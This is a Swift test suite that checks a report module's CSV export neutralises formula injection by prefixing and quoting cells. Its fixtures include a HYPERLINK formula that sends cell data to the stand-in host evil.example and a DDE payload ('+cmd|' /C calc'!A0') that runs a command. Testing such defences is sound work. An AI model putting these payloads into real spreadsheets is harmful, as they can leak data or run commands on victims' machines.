import Foundation
import RechargeCore
import RechargeStore
import Testing

@testable import RechargeReport

/// Cells that a spreadsheet would evaluate are written as text.
@Suite struct CSVInjectionTests {
    @Test(arguments: [
        ("=1+2", "'=1+2"), ("+SUM(A1:A9)", "'+SUM(A1:A9)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
        ("\rx", "\"'\rx\""), ("=HYPERLINK(\"http://evil\",\"a\")", "\"'=HYPERLINK(\"\"http://evil\"\",\"\"a\"\")\""),
        ("plain", "plain"), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""), ("line\nbreak", "\"line\nbreak\""), ("", ""),
        ("1=1", "1=1"), ("TOPUP-0001", "TOPUP-0001"),
    ])
    func aCellIsNeutralisedAndQuoted(raw: String, written: String) {
        #expect(CSVReport.cell(raw) == written)
    }

    @Test func textFromTheFileAndFromProvidersCannotStartAFormula() throws {
        let csv = #"""
            provider,card_id,amount,currency,reference,remark,pay_coin,pay_account_num,on_behalf_of
            vcc,100030108904,1.00,USD,"=HYPERLINK(""http://evil.example/?""&A1;""click"")",,,,
            vcc,100030108905,2.00,USD,+cmd|' /C calc'!A0,,,,
            vcc,100030108906,3.00,USD,@SUM(1+1),,,,
            vcc,100030108907,4.00,USD,-1+1,,,,

            """#
        let database = try RechargeDatabase.inMemory()
        let batch = try importBatch(csv, name: "=evil", into: database)
        try settle(
            database, batch, row: 1, .rejected, errorCode: "=1+1", errorMessage: "@evil, \"quoted\"", providerReference: "-42",
            sentAt: at(1), doneAt: at(2))
        try settle(database, batch, row: 2, .unresolvable, errorCode: "+1", errorMessage: "\t=tab", sentAt: at(1), doneAt: at(2))

        let text = try render(database, batch, .csv)
        #expect(text.contains("\r\n"))
        let rows = parseCSV(text)
        let widths = Set(rows.map(\.count))
        #expect(widths.count == 1, "every record has the same number of fields: \(widths)")
        for cell in rows.joined() {
            guard let first = cell.unicodeScalars.first else { continue }
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(first), "unneutralised cell: \(cell)")
        }
        // The neutralised text is all still there, after its apostrophe.
        #expect(rows.joined().contains("'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")"))
        #expect(rows.joined().contains("'@evil, \"quoted\""))
        #expect(rows.joined().contains("'-42"))
        #expect(rows.joined().contains("'\t=tab"))
        #expect(rows.joined().contains("'=evil"))
    }
}
